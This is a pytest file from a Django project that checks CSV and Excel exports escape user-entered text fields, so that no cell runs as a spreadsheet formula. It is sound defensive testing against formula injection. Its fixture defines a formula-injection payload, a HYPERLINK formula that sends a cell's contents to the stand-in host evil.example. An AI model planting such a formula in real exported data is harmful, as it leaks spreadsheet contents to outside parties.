"""What an organisation types never runs as a formula in an export (issue 12).

Rådighet motivations, actor names, action titles, action indicators and own
indicators (in the upload template and the values export) come back from every
CSV and Excel download as literal text: CSV cells start with ``'``, Excel cells are
strings with a quote prefix, and no workbook holds a formula.
"""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from styra.web.actionplan.models import Action, ActionIndicator
from styra.web.indicators.models import OwnIndicator, OwnValue
from styra.web.radighet.services import change_level
from styra.web.samverkan.models import Actor, Involvement

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Öppna")'


@pytest.fixture
def material(org_a, editor_a):
    """A's material, each text field starting with a formula."""
    change_level(org_a, "14.2", 2, PAYLOAD, editor_a)
    actor = Actor.objects.create(
        organisation=org_a, name=PAYLOAD, kind="internal", category="forvaltning"
    )
    Involvement.objects.create(actor=actor, goal=14, role="lead")
    own = OwnIndicator.objects.create(organisation=org_a, code="E1", title=PAYLOAD, goal=14)
    OwnValue.objects.create(indicator=own, area=org_a, year=2024, value=-3.5)
    action = Action.objects.create(organisation=org_a, level="strategy", code="S1", title=PAYLOAD)
    ActionIndicator.objects.create(action=action, kpi_id=own.kpi_id)


def downloads(kolada_id: str) -> list[str]:
    urls = [reverse("actionplan-export", args=[kolada_id])]
    for fmt in ("csv", "xlsx"):
        urls += [
            reverse("radighet-export", args=[kolada_id, "delmal", fmt]),
            reverse("samverkan-matrix-export", args=[kolada_id, fmt]),
            reverse("indicators-upload-template", args=[kolada_id, fmt]),
            reverse("indicators-values-export", args=[kolada_id, fmt]),
        ]
    return urls


def payload_cells(response) -> list:
    """Every cell holding the payload; for CSV the text of each, for Excel the cells."""
    if response["Content-Disposition"].endswith('.csv"'):
        text = response.content.decode("utf-8").removeprefix("\ufeff")
        rows = csv.reader(io.StringIO(text, newline=""), delimiter=";")
        return [cell for row in rows for cell in row if PAYLOAD in cell]
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    return [cell for cell in cells if PAYLOAD in str(cell.value or "")]


def is_literal(cell) -> bool:
    if isinstance(cell, str):
        return cell.startswith("'" + PAYLOAD)
    return cell.data_type == "s" and cell.quotePrefix and cell.value.startswith(PAYLOAD)


@pytest.mark.parametrize("url", downloads("0180"))
def test_typed_text_comes_back_as_text(url, material, client_for, viewer_a):
    response = client_for(viewer_a).get(url)
    assert response.status_code == 200
    cells = payload_cells(response)
    assert cells, "the typed text is in the file"
    assert all(is_literal(cell) for cell in cells)
